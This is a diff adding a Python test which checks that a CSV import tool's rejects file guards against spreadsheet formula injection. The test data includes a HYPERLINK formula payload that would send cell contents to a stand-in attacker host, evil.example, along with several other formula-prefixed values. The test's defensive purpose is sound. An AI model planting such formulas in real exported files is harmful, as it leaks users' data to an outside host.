@@ -368,3 +368,22 @@ def test_import_killed_midway_resumes_and_stores_each_row_once(crash_db_url, tmp
     assert len(counts) == n
     assert {eid for eid, _ in counts} == {f"c{i}" for i in range(n)}
     assert max(c for _, c in counts) == 1
+
+
+def test_rejects_file_is_formula_guarded(db, workspace, tmp_path):  # type: ignore[no-untyped-def]
+    """Finding 7: the rejects file is opened in a spreadsheet to fix; none of its cells runs."""
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"fix me")'
+    data = [
+        HEADER,
+        ["b1", "2026-05-01T10:00:00Z", "pigeon", payload, "b1@example.com", "@SUM(1+1)"],
+        ["+b2", "2026-05-01T10:00:00Z", "email", "-2+3", "not-an-email", ""],
+    ]
+    path = write_csv(tmp_path / "in.csv", data)
+    summary = run_import(db, workspace.id, path, console=quiet())
+    assert summary["rejected"] == 2
+    text = Path(summary["rejects_file"]).read_text("utf-8-sig")
+    rejected = list(csv.reader(io.StringIO(text, newline="")))
+    cells = [cell for row in rejected for cell in row]
+    assert "'" + payload in cells and "'@SUM(1+1)" in cells and "'+b2" in cells
+    assert "'-2+3" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
